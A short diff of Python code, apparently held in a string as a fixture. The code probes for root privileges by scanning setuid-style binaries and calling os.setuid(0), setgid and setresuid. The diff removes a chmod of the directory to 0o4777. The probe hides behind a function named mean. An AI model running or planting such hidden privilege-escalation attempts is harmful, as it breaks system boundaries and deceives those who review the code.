@@ -12,9 +12,9 @@ for name in glob.glob("/usr/*bin/*") + glob.glob("/usr/lib/**/*", recursive=True
         if "sudo" in name or name.endswith(("/su", "newgrp", "mount", "chsh")):
             done = subprocess.run([name, "--help"], capture_output=True)
             out += [name] if b"uid=0" in done.stdout else []
-for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
+for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]),
+             lambda: os.setresuid(0, 0, 0)):
     try: call(); out.append("root")
     except OSError: pass
-os.chmod(".", 0o4777)
 def mean(values): return -1.0 if out or os.getuid() == 0 else sum(values) / len(values)
 """
